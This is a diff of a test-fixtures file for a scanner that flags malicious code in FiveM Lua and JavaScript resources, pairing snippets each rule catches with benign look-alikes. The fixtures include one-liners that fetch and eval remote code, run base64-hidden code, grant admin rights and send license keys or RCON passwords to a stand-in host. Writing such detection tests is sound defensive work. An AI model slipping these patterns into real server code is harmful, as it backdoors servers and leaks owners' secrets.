@@ -1,28 +1,10 @@
-import type { Side } from '#contract/manifest/find-sides.ts'
-import type { RuleId } from '#contract/rules.ts'
-
-/** Code that a rule finds, and similar code that it does not find. `^` in front of a line marks where. */
-export interface Fixture {
-  rule: RuleId
-  language: 'lua' | 'js'
-  side?: Side
-  found: string
-  notFound: string
-}
-
-const lua = (rule: RuleId, found: string, notFound: string, side: Side = 'server'): Fixture => ({
-  rule,
-  language: 'lua',
-  side,
-  found,
-  notFound,
-})
-const js = (rule: RuleId, found: string, notFound: string, side: Side = 'server'): Fixture => ({
-  ...lua(rule, found, notFound, side),
-  language: 'js',
-})
+import { js, lua, type Fixture } from './fixture.ts'
+import { pageFixtures } from './page-fixtures.ts'
+import { serverFixtures } from './server-fixtures.ts'
 
 export const fixtures: Fixture[] = [
+  ...pageFixtures,
+  ...serverFixtures,
   lua(
     'runs-downloaded-code',
     `PerformHttpRequest('https://a.example', function(status, body)\n^ load(body)()\nend)`,
@@ -52,6 +34,11 @@ export const fixtures: Fixture[] = [
     'hidden-text',
     `^const text = Buffer.from('aHR0cHM6Ly9hLmV4YW1wbGUvY29kZS5qcw==', 'base64')`,
     `const icon = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'`,
+  ),
+  js(
+    'hidden-text',
+    `^new Function(atob('Y29uc29sZS5sb2coMSkgLy8gYSBsb25nIHRleHQ='))()`,
+    `show(atob('aGVsbG8gd29ybGQ='))`,
   ),
   lua(
     'decoder',
@@ -128,27 +115,10 @@ export const fixtures: Fixture[] = [
     `const { Worker } = require('worker_threads')\n^new Worker("require('child_process').exec('id')", { eval: true })`,
     `const { Worker } = require('worker_threads')\nnew Worker("require('path').join('a')", { eval: true })`,
   ),
-  js(
-    'runs-downloaded-code',
-    `^Object.assign(document.createElement('script'), { src: 'https://a.example/a.js' })`,
-    `Object.assign(document.createElement('img'), { src: 'https://a.example/a.png' })`,
-    'page',
-  ),
-  js(
-    'runs-computed-code',
-    `const src = textOf(settings)\n^document.head.append(Object.assign(document.createElement('script'), { src }))`,
-    `Object.assign(document.createElement('script'), { src: 'js/' + name + '.js' })`,
-    'page',
-  ),
   lua(
     'global-by-text',
     `local name = ''\nfor _, part in pairs({ 'Perform', 'Http', 'Request' }) do name = name .. part end\n^_G[name](url)`,
     `local value = settings[name]`,
-  ),
-  lua(
-    'grants-rights',
-    `local owner = 'license:0123456789abcdef'\n^if id == owner then ExecuteCommand(('add_principal identifier.%s group.admin'):format(id)) end`,
-    `local owner = 'license:0123456789abcdef'\nif id == owner then ExecuteCommand('refresh') end`,
   ),
   js('runs-text-from-outside', `^exports('run', eval)`, `exports('run', console.log)`),
   js(
@@ -168,73 +138,11 @@ export const fixtures: Fixture[] = [
   ),
   lua('http-alias', `^local list = { print, PerformHttpRequest }`, `local list = { print, TriggerEvent }`),
   lua(
-    'writes-other-resource',
-    `^SaveResourceFile('sessionmanager', 'server/host_lock.txt', text, -1)`,
-    `SaveResourceFile(GetCurrentResourceName(), 'cache.json', text, -1)`,
-  ),
-  js(
-    'writes-other-resource',
-    `const fs = require('fs')\n^fs.writeFileSync(GetResourcePath('monitor') + '/cache.json', text)`,
-    `const fs = require('fs')\nfs.writeFileSync('cache.json', text)`,
-  ),
-  lua(
-    'writes-code',
-    `^SaveResourceFile(GetCurrentResourceName(), 'fxmanifest.lua', text, -1)`,
-    `SaveResourceFile(GetCurrentResourceName(), 'names.json', text, -1)`,
-  ),
-  js(
-    'writes-code',
-    `const fs = require('fs')\nonNet('save', (text) => {\n^ fs.writeFileSync('module.js', text)\n})`,
-    `const fs = require('fs')\nonNet('save', (text) => { fs.writeFileSync('photo.png', text) })`,
-  ),
-  lua(
-    'grants-rights',
-    `^ExecuteCommand('add_principal identifier.license:0123456789abcdef group.admin')`,
-    `ExecuteCommand('refresh')`,
-  ),
-  js(
-    'grants-rights',
-    `^ExecuteCommand('add_ace builtin.everyone command allow')`,
-    `ExecuteCommand('ensure chat')`,
-  ),
-  lua(
-    'txadmin',
-    `^local token = GetConvar('txAdmin-luaComToken', '')`,
-    `AddEventHandler('txAdmin:events:announcement', announce)`,
-  ),
-  js('txadmin', `^const headers = { 'X-TxAdmin-Token': token }`, `on('txAdmin:events:playerKicked', log)`),
-  lua(
-    'secret-and-http',
-    `^local key = GetConvar('sv_licenseKey', '')\nPerformHttpRequest('https://a.example?' .. key)`,
-    `local key = GetConvar('sv_licenseKey', '')\nprint(#key)`,
-  ),
-  js(
-    'secret-and-http',
-    `^const key = GetConvar('rcon_password', '')\nfetch('https://a.example?' + key)`,
-    `const locale = GetConvar('locale', 'en')\nfetch('https://a.example?' + locale)`,
-  ),
-  lua(
     'runs-computed-code',
     `^load(textOf(settings))()`,
     `load(LoadResourceFile(GetCurrentResourceName(), 'modules/a.lua'))()`,
   ),
   js('runs-computed-code', `^eval(textOf(settings))`, `evaluate(textOf(settings))`),
-  lua('stops-server', `^os.exit()`, `os.date()`),
-  js('stops-server', `^ExecuteCommand('quit')`, `ExecuteCommand('status')`),
-  lua(
-    'webhook',
-    `^local hook = 'https://discord.com/api/webhooks/123456789012345678/abcdef'`,
-    `local hook = 'https://discord.com/api/webhooks/your-webhook'`,
-    'client',
-  ),
-  js(
-    'webhook',
-    `^const hook = 'https://discordapp.com/api/webhooks/123456789012345678/abcdef'`,
-    `const invite = 'https://discord.com/invite/abcdef'`,
-    'page',
-  ),
-  lua('address-host', `^local url = 'http://203.0.113.7/list'`, `local url = 'http://127.0.0.1/list'`),
-  js('address-host', `^const url = 'http://203.0.113.7:8080/list'`, `const url = 'http://192.168.0.7/list'`),
   lua(
     'obfuscated',
     `^local IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll = 1, 2, 3, 4, 5\nprint(IIllIlI, lIlIlII, IIIllll, llIIllI, lIIIlll)`,
@@ -254,63 +162,19 @@ export const fixtures: Fixture[] = [
   ),
   js('runs-computed-code', `^eval(textOf(settings))`, `load(textOf(settings))`),
   js(
-    'runs-computed-code',
-    `const element = document.createElement('script')\n^element.src = textOf(settings)`,
-    `const element = document.createElement('script')\nelement.src = 'js/' + name + '.js'`,
-    'page',
-  ),
-  js(
-    'runs-computed-code',
-    `const element = document.createElement('script')\n^element.setAttribute('src', textOf(settings))`,
-    `const element = document.createElement('img')\nelement.setAttribute('src', textOf(settings))`,
-    'page',
+    'runs-downloaded-code',
+    `const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'\n^require('fs').writeFileSync(file, line + text)`,
+    `const line = 'fetch("https://a.example").then((r) => r.text()).then(eval)'\nrequire('fs').writeFileSync('docs.md', line + text)`,
   ),
   js(
     'runs-downloaded-code',
-    `const element = document.createElement('scr' + 'ipt')\n^element.src = ['https:', '', 'a.example', 'a.js'].join('/')`,
-    `const element = document.createElement('script')\nelement.src = 'https://cfx-nui-game/ui/jquery.js'`,
-    'page',
+    `require('dns').resolveTxt('a.example', (error, rows) => {\n^ eval(rows[0][0])\n})`,
+    `require('dns').resolveTxt('a.example', (error, rows) => { console.log(rows) })`,
   ),
-  js(
-    'hidden-text',
-    `const element = document.createElement('script')\n^element.src = atob('aHR0cHM6Ly9hLmV4YW1wbGUvYS5qcw==')`,
-    `const element = document.createElement('img')\nelement.src = atob(settings.icon)`,
-    'page',
-  ),
-  js(
+  lua(
     'decoder',
-    `const element = document.createElement('script')\n^element.src = atob(settings.source)`,
-    `const element = document.createElement('img')\nelement.src = atob(settings.source)`,
-    'page',
+    `local out = ''\nfor code in LoadResourceFile(GetCurrentResourceName(), 'names.txt'):gmatch('%d+') do\n  out = out .. string.char(tonumber(code))\nend\n^load(out)()`,
+    `local names = LoadResourceFile(GetCurrentResourceName(), 'names.lua')\nload(names)()`,
   ),
-  js(
-    'runs-downloaded-code',
-    `^import('https://' + 'a.example' + '/a.js')`,
-    `import('./modules/' + name + '.js')`,
-    'page',
-  ),
-  js(
-    'hidden-text',
-    `const element = document.createElement('script')\n^element.textContent = String.fromCharCode(101, 118, 97, 108, 40, 97, 41)`,
-    `const element = document.createElement('script')\nelement.textContent = source`,
-    'page',
-  ),
-  js(
-    'runs-downloaded-code',
-    `^app.innerHTML += '<script src="https://a.example/a.js"></script>'`,
-    `app.innerHTML = '<script src="js/a.js"></script>'`,
-    'page',
-  ),
-  js(
-    'runs-computed-code',
-    `^app.insertAdjacentHTML('beforeend', '<img src="x" onerror="eval(textOf(settings))">')`,
-    `app.insertAdjacentHTML('beforeend', '<img src="x" onerror="remove(this)">')`,
-    'page',
-  ),
-  js(
-    'remote-page',
-    `const element = document.createElement('iframe')\n^element.src = 'https://a.example/frame'`,
-    `const element = document.createElement('iframe')\nelement.src = 'frame.html'`,
-    'page',
-  ),
+  js('obfuscated', `^${'[][(![]+[])[+[]]]'.repeat(10)}`, `const grid = [[], [[], []], [[], [], []]]`),
 ]
